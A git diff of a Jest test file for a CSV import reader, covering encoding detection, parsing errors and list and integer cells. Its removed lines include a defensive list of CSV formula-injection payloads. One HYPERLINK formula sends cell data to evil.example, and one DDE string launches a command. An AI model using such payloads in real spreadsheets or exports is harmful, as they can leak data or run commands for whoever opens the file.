@@ -1,20 +1,14 @@
 import { describe, expect, it } from '@jest/globals';
+import { CsvFormatError, decodeCsv, integerCell, listCell, parseCsv } from '@collabo/service-kit';
 import iconv from 'iconv-lite';
-import {
-  booleanCell,
-  CsvFormatError,
-  csvHead,
-  csvRecords,
-  decodeCsv,
-  integerCell,
-  listCell,
-  neutraliseFormula,
-  parseCsv,
-} from './csv-codec.js';
 
+/**
+ * The kit reads the uploaded files; these pin what the registry's import relies on: the encodings staff send, the
+ * line numbers its row problems carry, and the messages its 400 `REGISTRY.CSV_UNREADABLE` bodies repeat.
+ */
 const SAMPLE = 'name,name_kana\n株式会社北海道フーズ,ホッカイドウフーズ\n';
 
-describe('CSV codec', () => {
+describe('reading an import file (the kit’s CSV reader, as the registry uses it)', () => {
   it('reads UTF-8 with and without a BOM, and Shift_JIS', () => {
     expect(decodeCsv(Buffer.from(SAMPLE, 'utf8'))).toEqual({ text: SAMPLE, encoding: 'utf-8' });
     expect(decodeCsv(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(SAMPLE)]))).toEqual({
@@ -34,6 +28,7 @@ describe('CSV codec', () => {
 
   it('refuses UTF-16 and a declared UTF-8 that is not', () => {
     expect(() => decodeCsv(Buffer.from([0xff, 0xfe, 0x41, 0x00]))).toThrow(CsvFormatError);
+    expect(() => decodeCsv(Buffer.from([0xff, 0xfe, 0x41, 0x00]))).toThrow(/UTF-16/);
     expect(() => decodeCsv(iconv.encode(SAMPLE, 'Shift_JIS'), 'utf-8')).toThrow(/not valid UTF-8/);
   });
 
@@ -53,51 +48,11 @@ describe('CSV codec', () => {
     expect(() => parseCsv('')).toThrow(/empty/);
   });
 
-  it('writes UTF-8 with a BOM and CRLF, lists joined, formulas neutralised', () => {
-    const csv =
-      csvHead(['name', 'fields', 'note', 'n']) +
-      csvRecords([['北海道', ['food', 'tourism'], '=HYPERLINK("x")', -5]]) +
-      csvRecords([]) +
-      csvRecords([['札幌', [], null, 0]]);
-    expect(csv).toBe('\uFEFFname,fields,note,n\r\n北海道,food;tourism,"\'=HYPERLINK(""x"")",-5\r\n札幌,,,0\r\n');
-  });
-
-  it('the CSV export neutralises every formula-looking cell, -1+HYPERLINK included; only plain numbers pass', () => {
-    const hostile = [
-      '=HYPERLINK("https://evil.example/?d="&A1,"click")',
-      '-1+HYPERLINK("https://evil.example","x")',
-      '-1+1',
-      '+1+1',
-      '+81-11-222-3333',
-      "@SUM(1+1)*cmd|' /C calc'!A0",
-      '-',
-      '-x',
-      '-1e3',
-      '\t=1+1',
-      '\tplain',
-      '\r=1+1',
-      ' =1+1',
-      '  @SUM(A1)',
-      '\u3000=1+1',
-      '\n-1+HYPERLINK("x")',
-      '＝１＋１',
-      '＋1',
-      '－1+1',
-      '＠SUM(A1)',
-    ];
-    for (const text of hostile) expect([text, neutraliseFormula(text)]).toEqual([text, `'${text}`]);
-    for (const text of ['-12', '3.5', '-0.25', '0', '42', '株式会社北海道フーズ', 'a=b', 'x-1', '2024-04-01', '', 'ヤマダ タロウ'])
-      expect([text, neutraliseFormula(text)]).toEqual([text, text]);
-    const csv = csvRecords([['-1+HYPERLINK("x")', -12, 3.5, ['=1', 'food'], ' =2']]);
-    expect(csv).toBe('"\'-1+HYPERLINK(""x"")",-12,3.5,\'=1;food,\' =2\r\n');
-  });
-
-  it('reads list, integer and yes/no cells', () => {
+  it('reads list and integer cells', () => {
     expect(listCell('food; tourism、it')).toEqual(['food', 'tourism', 'it']);
     expect(integerCell('10,000,000')).toBe(10_000_000);
     expect(integerCell('１２')).toBe(12);
     expect(integerCell('')).toBeUndefined();
     expect(integerCell('1.5')).toBeNaN();
-    expect([booleanCell('はい'), booleanCell('FALSE'), booleanCell(''), booleanCell('maybe')]).toEqual([true, false, false, undefined]);
   });
 });
